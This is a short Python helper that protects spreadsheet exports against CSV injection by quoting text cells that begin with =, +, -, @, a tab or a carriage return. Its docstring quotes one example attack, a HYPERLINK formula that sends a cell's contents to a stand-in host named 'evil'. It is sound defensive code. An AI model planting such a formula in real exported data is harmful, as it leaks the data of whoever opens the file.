"""Text leaving as a file a person opens in a spreadsheet: a cell is data, never a formula.

A citizen named ``=HYPERLINK("http://evil/?"&A1,"click")`` becomes a live formula when a CSV download is
opened in a spreadsheet. OWASP's advice on CSV injection: a text cell starting with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return gets a leading single quote, which spreadsheets show as text. Numbers
stay numbers (a negative number is not text).
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cell(value: Any) -> Any:
    """``value`` as a CSV cell that no spreadsheet reads as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
